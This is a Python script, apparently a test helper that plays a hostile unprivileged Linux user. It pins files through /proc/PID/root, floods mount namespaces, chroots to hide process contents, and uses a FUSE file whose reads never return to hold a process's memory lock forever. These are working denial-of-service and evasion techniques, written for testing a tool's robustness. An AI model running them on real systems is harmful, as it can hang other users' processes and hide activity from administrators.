"""What an unprivileged user does so that a snapshot stays in use, or so that nobody can look at their processes.

    pinning.py enter FILE WORD   open FILE as it is seen by their own processes that have WORD in their arguments
    pinning.py pass FILE WORD SOCKET  the same; and pass it to the server at SOCKET
    pinning.py map FILE WORD     the same; map that file, close it, and keep the lock of that memory
    pinning.py mm                keep the lock of their memory
    pinning.py write FILE        be in the middle of a write to FILE for ever
    pinning.py mounts N M        N mounts in a namespace of their own, M processes in it
    pinning.py hide              a namespace like that which they are started in, and a root in it that shows nothing

They say `ready`, and `holds` when they have opened something. The lock is kept so: somebody reads their memory where a
page of a FUSE file lies, which never comes; and who then wants the lock for writing waits in front of all readers.
"""

import ctypes
import mmap
import os
import socket
import struct
import sys
import time

NOBODY = 65534
NEWUSER, NEWNS, PRIVATE, BIND, REC = 0x10000000, 0x20000, 0x40000, 0x1000, 0x4000
libc = ctypes.CDLL(None, use_errno=True)


def check(result: int, what: str) -> None:
    """Fail as the kernel says."""
    if result:
        raise OSError(ctypes.get_errno(), what)


def become_nobody() -> None:
    """Let go of root."""
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    libc.prctl(4, 1)  # PR_SET_DUMPABLE


def unshare() -> None:
    """Be root in a user and mount namespace of our own."""
    check(libc.unshare(NEWUSER | NEWNS), "unshare")
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {NOBODY} 1"), ("gid_map", f"0 {NOBODY} 1")):
        with open(f"/proc/self/{name}", "w", encoding="ascii") as file:
            file.write(text)


def mount(source: str, target: str, kind: str | None, flags: int = 0, options: str | None = None) -> None:
    """mount(2)."""
    words = [None if word is None else os.fsencode(word) for word in (source, target, kind, options)]
    check(libc.mount(words[0], words[1], words[2], ctypes.c_ulong(flags), words[3]), f"mount {target}")


def serve(fuse: int) -> None:
    """Serve a file system with one file, `x`, whose content never comes."""
    size = 4096

    def about(node: int) -> bytes:
        mode = 0o40777 if node == 1 else 0o100666
        return struct.pack("=6Q10I", node, size, 1, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)

    while True:
        _, call, unique, node = struct.unpack_from("=IIQQ", os.read(fuse, 1 << 17))
        answer = {
            26: struct.pack("=4I2H2I2H8I", 7, 31, 0, 0, 16, 12, 1 << 16, 1, 1, 0, *[0] * 8),  # INIT
            1: struct.pack("=4Q2I", 2, 1, 3600, 3600, 0, 0) + about(2),  # LOOKUP
            3: struct.pack("=QII", 3600, 0, 0) + about(node),  # GETATTR
            14: struct.pack("=QII", 0, 0, 0),  # OPEN
        }.get(call)
        if call not in (15, 2, 42):  # READ, FORGET, BATCH_FORGET
            body = answer or b""
            os.write(fuse, struct.pack("=IiQ", 16 + len(body), 0 if answer else -38, unique) + body)


def silent_page() -> mmap.mmap:
    """Return a page of memory that whoever reads it waits for, for ever."""
    unshare()
    return page_of_fuse()


def page_of_fuse(flags: int = mmap.MAP_SHARED, prot: int = mmap.PROT_READ) -> mmap.mmap:
    """Return such a page, for root in a user and mount namespace of their own."""
    fuse = os.open("/dev/fuse", os.O_RDWR)
    mount("none", "/tmp", "tmpfs")
    os.mkdir("/tmp/f")
    mount("evil", "/tmp/f", "fuse", 0, f"fd={fuse},rootmode=40000,user_id=0,group_id=0")
    if os.fork() == 0:
        serve(fuse)
    os.close(fuse)
    return mmap.mmap(os.open("/tmp/f/x", os.O_RDONLY), 4096, flags, prot)


def keep_lock() -> None:
    """Keep the lock of our memory for ever. Never returns."""
    page = silent_page()
    with open("/proc/self/maps", encoding="ascii") as file:
        where = next(int(line.split("-")[0], 16) for line in file if "/tmp/f/x" in line)
    us = os.getpid()
    libc.prctl(0x59616D61, -1)  # PR_SET_PTRACER, PR_SET_PTRACER_ANY
    if os.fork() == 0:
        os.pread(os.open(f"/proc/{us}/mem", os.O_RDONLY), 1, where)
    time.sleep(1)
    print("locking", flush=True)
    mmap.mmap(-1, 4096)
    print("unlocked", page, flush=True)


def enter(path: str, word: str) -> int:
    """Open a file by the root directory of our own processes, until that is another one than the live one."""
    live = os.stat(path).st_dev
    old = set(os.listdir("/proc"))  # to look at these again and again would take the processor of those to come
    while True:
        names = os.listdir("/proc")
        old.intersection_update(names)
        for name in names:
            if not name.isdigit() or name in old:
                continue
            try:
                with open(f"/proc/{name}/cmdline", "rb") as file:
                    if word.encode() not in file.read():
                        continue
                fd = os.open(f"/proc/{name}/root{path}", os.O_RDONLY)
            except OSError:
                continue
            if os.fstat(fd).st_dev != live:
                return fd
            os.close(fd)
        time.sleep(0.005)


def many(mounts: int, processes: int) -> None:
    """Make mounts, and processes that see them."""
    unshare()
    mount("none", "/tmp", "tmpfs")
    mount("none", "/tmp", None, PRIVATE)
    os.mkdir("/tmp/a")
    mount("none", "/tmp/a", "tmpfs")
    for number in range(mounts):
        os.mkdir(f"/tmp/a/{number}")
        mount("/tmp", f"/tmp/a/{number}", None, BIND)
    for _ in range(processes):
        if os.fork() == 0:
            break
    else:
        print("holds", flush=True)


def main() -> None:
    """Do it, and stay."""
    what, *words = sys.argv[1:]
    become_nobody()
    print("ready", flush=True)
    if what in ("enter", "map", "pass"):
        fd = enter(*words[:2])
        kept = None
        if what == "map":
            kept = mmap.mmap(fd, 0, mmap.MAP_SHARED, mmap.PROT_READ)
            os.close(fd)
        if what == "pass":
            with socket.socket(socket.AF_UNIX) as server:
                server.connect(words[2])
                socket.send_fds(server, [b"x"], [fd])
                server.recv(1)
            os.close(fd)
        print("holds", flush=True)
        if kept:
            keep_lock()
    elif what == "mm":
        keep_lock()
    elif what == "write":
        file, page = os.open(words[0], os.O_WRONLY | os.O_CREAT, 0o600), silent_page()
        print("holds", flush=True)
        os.write(file, memoryview(page))
    elif what == "mounts":
        many(*map(int, words))
    elif what == "hide":
        unshare()
        os.mkdir("/dev/shm/nothing")
        os.chroot("/dev/shm/nothing")
        print("holds", flush=True)
    time.sleep(1000)


if __name__ == "__main__":
    main()
